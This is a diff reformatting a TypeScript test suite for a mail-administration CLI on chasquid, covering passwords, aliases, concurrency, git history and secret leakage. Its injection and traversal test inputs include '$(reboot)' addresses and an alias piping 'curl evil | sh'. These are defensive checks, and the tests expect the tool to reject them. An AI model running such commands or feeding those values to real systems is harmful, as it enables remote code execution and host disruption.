@@ -51,7 +51,10 @@ describe.each(['1.11', '1.15'] as const)('senders and aliases on chasquid %s', (
   it('takes a chosen password on stdin, refuses a weak one, and changes it with passwd', async () => {
     const chosen = 'violet-tram-ocean-47';
     expect(await json(['user-add', 'bob@example.test', '--password-stdin'], { stdin: `${chosen}\n` })).toEqual({
-      ok: true, address: 'bob@example.test', restarted: false, repaired: [],
+      ok: true,
+      address: 'bob@example.test',
+      restarted: false,
+      repaired: [],
     });
     await waitForAuthentication(lab, 'bob@example.test', chosen, true);
     const weak = await mailops(['passwd', 'bob@example.test', '--password-stdin'], { stdin: 'password1234\n' });
@@ -77,10 +80,13 @@ describe.each(['1.11', '1.15'] as const)('senders and aliases on chasquid %s', (
   it('delivers mail for an alias to its target, and the catch-all takes unknown addresses', async () => {
     expect(await json(['alias-set', 'sales@example.test', 'alice'])).toMatchObject({ ok: true, targets: ['alice@example.test'] });
     expect(await json(['alias-set', '*@example.test', 'bob@example.test'])).toMatchObject({ ok: true, address: '*@example.test' });
-    expect(await json(['aliases', 'example.test'])).toEqual({ ok: true, aliases: [
-      { address: '*@example.test', targets: ['bob@example.test'] },
-      { address: 'sales@example.test', targets: ['alice@example.test'] },
-    ] });
+    expect(await json(['aliases', 'example.test'])).toEqual({
+      ok: true,
+      aliases: [
+        { address: '*@example.test', targets: ['bob@example.test'] },
+        { address: 'sales@example.test', targets: ['alice@example.test'] },
+      ],
+    });
     await deliverOnceAccepted(lab, 'customer@sender.invalid', 'sales@example.test', `alias-${build}`);
     expect(await waitForDelivery(lab, 'alice@example.test', `alias-${build}`)).toContain(`Subject: alias-${build}`);
     await deliver(lab, 'customer@sender.invalid', 'never-heard-of@example.test', `catchall-${build}`);
@@ -106,10 +112,31 @@ describe.each(['1.11', '1.15'] as const)('senders and aliases on chasquid %s', (
     await waitForAuthentication(lab, 'carol@example.test', password, false);
   });
 
-  const hostileAddresses = ['@example.test', 'a@b@example.test', 'x@../escape', 'x/y@example.test', 'a..b@example.test', 'a b@example.test',
-    'a\tb@example.test', 'a\nb@example.test', 'a\u0007b@example.test', 'a;reboot@example.test', '$(reboot)@example.test', '`reboot`@example.test',
-    'a|b@example.test', 'a&b@example.test', 'a>b@example.test', "a'b@example.test", 'a"b@example.test', '-rf@example.test', '--help@example.test',
-    `${'a'.repeat(65)}@example.test`, `a@${'b'.repeat(64)}.example.test`, 'a@EXAMPLE.test/..', 'a@*.example.test'];
+  const hostileAddresses = [
+    '@example.test',
+    'a@b@example.test',
+    'x@../escape',
+    'x/y@example.test',
+    'a..b@example.test',
+    'a b@example.test',
+    'a\tb@example.test',
+    'a\nb@example.test',
+    'a\u0007b@example.test',
+    'a;reboot@example.test',
+    '$(reboot)@example.test',
+    '`reboot`@example.test',
+    'a|b@example.test',
+    'a&b@example.test',
+    'a>b@example.test',
+    "a'b@example.test",
+    'a"b@example.test',
+    '-rf@example.test',
+    '--help@example.test',
+    `${'a'.repeat(65)}@example.test`,
+    `a@${'b'.repeat(64)}.example.test`,
+    'a@EXAMPLE.test/..',
+    'a@*.example.test',
+  ];
 
   it.each(hostileAddresses)('refuses the address %j with exit 2 and leaves the host untouched', async (address) => {
     const before = treeFingerprint(lab.chasquidDir);
@@ -126,28 +153,44 @@ describe.each(['1.11', '1.15'] as const)('senders and aliases on chasquid %s', (
     const before = treeFingerprint(lab.chasquidDir);
     const runs = await Promise.all([
       mailops(['alias-set', 'list@example.test', '| /bin/sh -c "curl evil | sh"']),
-      ...hostileArguments.filter((argument) => argument !== 'plain').map((argument) => mailops(['alias-set', 'list@example.test', argument])),
+      ...hostileArguments
+        .filter((argument) => argument !== 'plain')
+        .map((argument) => mailops(['alias-set', 'list@example.test', argument])),
     ]);
     for (const run of runs) expect(run.code).toBe(2);
     expect(treeFingerprint(lab.chasquidDir)).toEqual(before);
   });
 
-  it('lands 20 concurrent alias edits from 20 processes and keeps the operator\'s comments', async () => {
+  it("lands 20 concurrent alias edits from 20 processes and keeps the operator's comments", async () => {
     const aliasesFile = path.join(lab.chasquidDir, 'domains/example.org/aliases');
     writeFileSync(aliasesFile, '# Aliases of example.org, edited by hand\n\n# pipe alias kept as it is\narchive: | /usr/bin/true\n');
     execFileSync('git', ['-C', lab.chasquidDir, '-c', 'user.name=seed', '-c', 'user.email=seed@example.test', 'add', '-A']);
-    execFileSync('git', ['-C', lab.chasquidDir, '-c', 'user.name=seed', '-c', 'user.email=seed@example.test', 'commit', '-qm', 'hand edit']);
-    const runs = await Promise.all(Array.from({ length: 20 }, (_, index) => mailops(['alias-set', `list${index}@example.org`, 'alice@example.test'])));
+    execFileSync('git', [
+      '-C',
+      lab.chasquidDir,
+      '-c',
+      'user.name=seed',
+      '-c',
+      'user.email=seed@example.test',
+      'commit',
+      '-qm',
+      'hand edit',
+    ]);
+    const runs = await Promise.all(
+      Array.from({ length: 20 }, (_, index) => mailops(['alias-set', `list${index}@example.org`, 'alice@example.test']))
+    );
     expect(runs.map((run) => run.code)).toEqual(Array(20).fill(0));
     const text = readFileSync(aliasesFile, 'utf8');
-    expect(text.startsWith('# Aliases of example.org, edited by hand\n\n# pipe alias kept as it is\narchive: | /usr/bin/true\n')).toBe(true);
+    expect(text.startsWith('# Aliases of example.org, edited by hand\n\n# pipe alias kept as it is\narchive: | /usr/bin/true\n')).toBe(
+      true
+    );
     const listed = (await json(['aliases', 'example.org'])).aliases.map((alias: { address: string }) => alias.address);
     expect(listed).toHaveLength(21);
     for (let index = 0; index < 20; index += 1) expect(listed).toContain(`list${index}@example.org`);
   }, 120_000); // twenty Node.js processes at once: generous for a busy two-core CI machine
 
-  it('records each change in the host\'s git history with its actor, committing stray edits separately first', async () => {
-    writeFileSync(path.join(lab.chasquidDir, 'domains/example.test/notes.txt'), 'an operator\'s edit\n');
+  it("records each change in the host's git history with its actor, committing stray edits separately first", async () => {
+    writeFileSync(path.join(lab.chasquidDir, 'domains/example.test/notes.txt'), "an operator's edit\n");
     await json(['alias-set', 'billing@example.test', 'alice', '--actor', 'dana']);
     const log = execFileSync('git', ['-C', lab.chasquidDir, 'log', '--format=%s', '-n', '2'], { encoding: 'utf8' }).trim().split('\n');
     expect(log[0]).toBe('mailops alias-set billing@example.test (by dana)');
@@ -160,11 +203,15 @@ describe.each(['1.11', '1.15'] as const)('senders and aliases on chasquid %s', (
     expect(execFileSync('git', ['-C', lab.chasquidDir, 'status', '--porcelain'], { encoding: 'utf8' })).toBe('');
   });
 
-  it('never lets a password reach the host\'s process list, the logs or the audit trail', async () => {
+  it("never lets a password reach the host's process list, the logs or the audit trail", async () => {
     // Watch every process on the host (this machine) while passwords are set.
-    const watcher = spawn('sh', ['-c', 'while :; do cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "; echo; done'], { stdio: ['ignore', 'pipe', 'ignore'] });
+    const watcher = spawn('sh', ['-c', 'while :; do cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "; echo; done'], {
+      stdio: ['ignore', 'pipe', 'ignore'],
+    });
     let processList = '';
-    watcher.stdout.on('data', (chunk: Buffer) => { processList += chunk.toString('utf8'); });
+    watcher.stdout.on('data', (chunk: Buffer) => {
+      processList += chunk.toString('utf8');
+    });
     const chosen = 'amber-falcon-river-93';
     const logs: string[] = [];
     const traced = { env: { LOG_LEVEL: 'trace' } };
@@ -182,7 +229,9 @@ describe.each(['1.11', '1.15'] as const)('senders and aliases on chasquid %s', (
     expect(audit.length).toBeGreaterThan(5);
     expect(audit).toContainEqual(expect.objectContaining({ operation: 'passwd', target: 'dave@example.test', outcome: 'ok' }));
     expect(logs.join('')).toContain('"audit"');
-    const stateFiles = readdirSync(path.dirname(lab.env.STATE_DB ?? '')).map((name) => readFileSync(path.join(path.dirname(lab.env.STATE_DB ?? ''), name)).toString('latin1'));
+    const stateFiles = readdirSync(path.dirname(lab.env.STATE_DB ?? '')).map((name) =>
+      readFileSync(path.join(path.dirname(lab.env.STATE_DB ?? ''), name)).toString('latin1')
+    );
     for (const secret of secrets) {
       expect(processList).not.toContain(secret);
       expect(logs.join('')).not.toContain(secret);
